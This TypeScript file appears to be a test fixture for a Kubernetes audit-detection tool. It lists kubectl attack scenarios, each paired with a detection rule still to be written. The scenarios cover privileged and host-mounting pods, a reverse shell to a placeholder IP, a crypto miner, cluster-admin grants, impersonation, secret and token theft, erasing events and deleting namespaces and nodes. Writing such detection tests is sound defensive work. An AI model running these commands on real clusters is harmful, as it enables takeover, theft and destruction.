/** An attack, as kubectl does it, and the prewritten rule that has to say so. */
export interface Attack {
  readonly name: string;
  /** Arguments of kubectl. `MANIFEST` is the file of the manifest. A call that stays open is ended after a second. */
  readonly kubectl: readonly string[];
  readonly manifest?: string;
  /** How often it is done. Default once. */
  readonly times?: number;
  /** Done by carol, who has no rights beyond those of every user. */
  readonly asCarol?: boolean;
  readonly rule: string;
}

type Row = readonly [name: string, rule: string, kubectl: string | readonly string[], more?: Partial<Attack>];

const words = (kubectl: string | readonly string[]) => (typeof kubectl === "string" ? kubectl.split(" ") : kubectl);
const apply = "apply -f MANIFEST";

/** One object in flow style. */
const object = (apiVersion: string, kind: string, metadata: string, rest = "") => ({
  manifest: `{ apiVersion: ${apiVersion}, kind: ${kind}, metadata: { ${metadata} }${rest && `, ${rest}`} }\n`,
});
const pod = (name: string, spec: string) => object("v1", "Pod", `name: ${name}, namespace: shop`, `spec: { ${spec} }`);
const plain = "containers: [{ name: c, image: nginx, securityContext: { runAsNonRoot: true } }]";
const container = (text: string) => `containers: [{ name: c, image: nginx, ${text} }]`;
const role = (name: string, rules: string) =>
  object("rbac.authorization.k8s.io/v1", "ClusterRole", `name: ${name}`, `rules: [${rules}]`);
const service = (name: string, spec: string) =>
  object("v1", "Service", `name: ${name}, namespace: shop`, `spec: { ports: [{ port: 80 }], ${spec} }`);
const workload = (kind: string, name: string, spec: string) =>
  object(
    "apps/v1",
    kind,
    `name: ${name}, namespace: shop`,
    `spec: { selector: { matchLabels: { app: x } }, template: { metadata: { labels: { app: x } }, spec: { ${spec} } } }`,
  );
const webhook = (kind: string, name: string) =>
  object(
    "admissionregistration.k8s.io/v1",
    kind,
    `name: ${name}`,
    `webhooks: [{ name: a.example.com, clientConfig: { url: "https://127.0.0.1:9/" }, failurePolicy: Ignore, sideEffects: None, admissionReviewVersions: [v1], rules: [{ operations: [CREATE], apiGroups: [example.com], apiVersions: [v1], resources: [things] }] }]`,
  );

const rows: readonly Row[] = [
  ["privileged pod", "?", apply, pod("priv", container("securityContext: { privileged: true }"))],
  ["host processes", "?", apply, pod("hostpid", `hostPID: true, ${plain}`)],
  ["host ipc", "?", apply, pod("hostipc", `hostIPC: true, ${plain}`)],
  ["host network", "?", apply, pod("hostnet", `hostNetwork: true, ${plain}`)],
  ["host file system", "?", apply, pod("hostfs", `volumes: [{ name: v, hostPath: { path: /opt/data } }], ${plain}`)],
  ["root of the node", "?", apply, pod("hostroot", `volumes: [{ name: v, hostPath: { path: / } }], ${plain}`)],
  [
    "container socket, writable",
    "?",
    apply,
    pod(
      "sock",
      `volumes: [{ name: v, hostPath: { path: /var/run/docker.sock } }], ${container("volumeMounts: [{ name: v, mountPath: /s }]")}`,
    ),
  ],
  ["no security context", "?", "run bare --image=nginx -n shop"],
  ["added capability", "?", apply, pod("caps", container("securityContext: { capabilities: { add: [SYS_ADMIN] } }"))],
  [
    "seccomp unconfined",
    "?",
    apply,
    pod("seccomp", container("securityContext: { seccompProfile: { type: Unconfined } }")),
  ],
  [
    "apparmor unconfined",
    "?",
    apply,
    pod("apparmor", container("securityContext: { appArmorProfile: { type: Unconfined } }")),
  ],
  [
    "unmasked proc",
    "?",
    apply,
    pod("proc", `hostUsers: false, ${container("securityContext: { procMount: Unmasked }")}`),
  ],
  ["miner", "?", "run miner --image=xmrig/xmrig:6 -n shop"],
  [
    "reverse shell",
    "?",
    ["run", "shell", "--image=busybox", "-n", "shop", "--", "sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
  ],
  ["pod in kube-system", "?", "run helper --image=nginx -n kube-system"],
  [
    "privileged deployment",
    "?",
    apply,
    workload("Deployment", "deep", container("securityContext: { privileged: true }")),
  ],
  ["daemon set", "?", apply, workload("DaemonSet", "everywhere", plain)],
  [
    "host network by JSON patch",
    "?",
    [
      "patch",
      "deployment",
      "deep",
      "-n",
      "shop",
      "--type=json",
      "-p",
      '[{"op":"add","path":"/spec/template/spec/hostNetwork","value":true}]',
    ],
  ],
  [
    "host processes by merge patch",
    "?",
    [
      "patch",
      "deployment",
      "deep",
      "-n",
      "shop",
      "--type=merge",
      "-p",
      '{"spec":{"template":{"spec":{"hostPID":true}}}}',
    ],
  ],
  ["ephemeral container", "?", "debug priv -n shop --image=busybox --attach=false"],
  ["debug of a node", "?", "debug node/test-node --image=busybox --attach=false"],
  ["exec", "?", "exec priv -n shop -- sh"],
  ["attach", "?", "attach priv -n shop"],
  ["port-forward", "?", "port-forward -n shop pod/priv 18081:80"],
  ["kubelet by the node's proxy", "?", "get --raw /api/v1/nodes/test-node/proxy/pods"],
  ["service proxy", "?", "get --raw /api/v1/namespaces/default/services/https:kubernetes:443/proxy/"],
  ["cluster-admin for carol", "?", "create clusterrolebinding boss --clusterrole=cluster-admin --user=mallory"],
  ["rights for the anonymous", "?", "create clusterrolebinding anon --clusterrole=view --user=system:anonymous"],
  ["rights for default", "?", "create clusterrolebinding def --clusterrole=edit --serviceaccount=shop:default"],
  ["everything", "?", apply, role("all", '{ apiGroups: ["*"], resources: ["*"], verbs: ["*"] }')],
  ["secrets", "?", apply, role("reader", '{ apiGroups: [""], resources: [secrets], verbs: [get, list] }')],
  ["exec for somebody", "?", apply, role("execer", '{ apiGroups: [""], resources: [pods/exec], verbs: [create] }')],
  ["pods for somebody", "?", apply, role("podder", '{ apiGroups: [""], resources: [pods], verbs: [create] }')],
  [
    "escalate",
    "?",
    apply,
    role("escalator", "{ apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], verbs: [escalate, bind] }"),
  ],
  ["impersonate", "?", apply, role("actor", '{ apiGroups: [""], resources: [users], verbs: [impersonate] }')],
  [
    "a system role",
    "?",
    [
      "patch",
      "clusterrole",
      "system:basic-user",
      "--type=json",
      "-p",
      '[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["pods"],"verbs":["list"]}}]',
    ],
  ],
  ["account in kube-system", "?", "create serviceaccount backdoor -n kube-system"],
  ["token of another", "?", "create token default -n kube-system"],
  [
    "token for ever",
    "?",
    apply,
    object(
      "v1",
      "Secret",
      "name: forever, namespace: shop, annotations: { kubernetes.io/service-account.name: default }",
      "type: kubernetes.io/service-account-token",
    ),
  ],
  ["all secrets", "?", "get secrets -A"],
  ["one secret after the other", "?", "get secret forever -n shop", { times: 25 }],
  [
    "credentials in a config map",
    "?",
    [
      "create",
      "configmap",
      "cfg",
      "-n",
      "shop",
      "--from-literal=AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    ],
  ],
  ["what may I", "?", "auth can-i --list"],
  ["act as the masters", "?", "get pods --as=bob --as-group=system:masters"],
  ["act as a controller", "?", "get pods --as=system:serviceaccount:kube-system:replicaset-controller"],
  ["a right that is missing", "?", "get secrets -n shop", { asCarol: true }],
  ["many rights that are missing", "?", "get secrets -n shop", { asCarol: true, times: 25 }],
  ["admission webhook", "?", apply, webhook("MutatingWebhookConfiguration", "mutator")],
  ["validating webhook", "?", apply, webhook("ValidatingWebhookConfiguration", "validator")],
  ["admission webhook deleted", "?", "delete validatingwebhookconfiguration validator"],
  [
    "API service",
    "?",
    apply,
    object(
      "apiregistration.k8s.io/v1",
      "APIService",
      "name: v1.evil.example.com",
      "spec: { group: evil.example.com, version: v1, groupPriorityMinimum: 1, versionPriority: 1, insecureSkipTLSVerify: true, service: { name: kubernetes, namespace: default } }",
    ),
  ],
  [
    "CRD",
    "?",
    apply,
    object(
      "apiextensions.k8s.io/v1",
      "CustomResourceDefinition",
      "name: things.example.com",
      "spec: { group: example.com, scope: Namespaced, names: { plural: things, kind: Thing }, versions: [{ name: v1, served: true, storage: true, schema: { openAPIV3Schema: { type: object } } }] }",
    ),
  ],
  ["CRD deleted", "?", "delete crd things.example.com"],
  ["pod security weakened", "?", "label namespace shop pod-security.kubernetes.io/enforce=privileged --overwrite"],
  [
    "network policy",
    "?",
    apply,
    object("networking.k8s.io/v1", "NetworkPolicy", "name: deny, namespace: shop", "spec: { podSelector: {} }"),
  ],
  ["network policy deleted", "?", "delete networkpolicy deny -n shop"],
  ["quota", "?", "create quota q --hard=pods=100 -n shop"],
  ["quota deleted", "?", "delete quota q -n shop"],
  ["traces removed", "?", "delete events --all -n shop"],
  ["node port", "?", apply, service("np", "type: NodePort")],
  ["load balancer", "?", apply, service("lb", "type: LoadBalancer")],
  ["external IPs", "?", apply, service("ext", "externalIPs: [203.0.113.9]")],
  ["ingress without TLS", "?", "create ingress web --rule=shop.example.com/*=web:80 -n shop"],
  ["names of the cluster", "?", "create configmap coredns -n kube-system --from-literal=Corefile=.:53"],
  ["EKS accounts", "?", "create configmap aws-auth -n kube-system --from-literal=mapRoles=x"],
  [
    "cloud identity",
    "?",
    "annotate serviceaccount default -n shop eks.amazonaws.com/role-arn=arn:aws:iam::123456789012:role/admin",
  ],
  ["every minute", "?", "create cronjob beacon --image=busybox --schedule=*/1_*_*_*_* -n default -- true"],
  ["certificate asked for", "?", apply, { manifest: "CSR" }],
  ["certificate approved", "?", "certificate approve mallory"],
  ["cordon", "?", "cordon test-node"],
  [
    "persistent volume of the node",
    "?",
    apply,
    object(
      "v1",
      "PersistentVolume",
      "name: root",
      "spec: { capacity: { storage: 1Gi }, accessModes: [ReadWriteOnce], hostPath: { path: / } }",
    ),
  ],
  ["high priority", "?", "create priorityclass top --value=1000000000"],
  [
    "a lease",
    "?",
    [
      "patch",
      "lease",
      "kube-scheduler",
      "-n",
      "kube-system",
      "--type=merge",
      "-p",
      '{"spec":{"holderIdentity":"mallory"}}',
    ],
  ],
  ["our own configuration", "?", "create configmap auditwire-config -n auditwire"],
  ["many pods deleted", "?", "delete pods --all -n shop --wait=false"],
  ["namespace deleted", "?", "delete namespace shop --wait=false"],
  ["node deleted", "?", "delete node test-node --wait=false"],
];

/** In this order: some need what an earlier one made. */
export const attacks: readonly Attack[] = rows.map(([name, rule, kubectl, more]) => ({
  name,
  rule,
  kubectl: words(kubectl).map((word) => (word.startsWith("--schedule=") ? word.replaceAll("_", " ") : word)),
  ...more,
}));
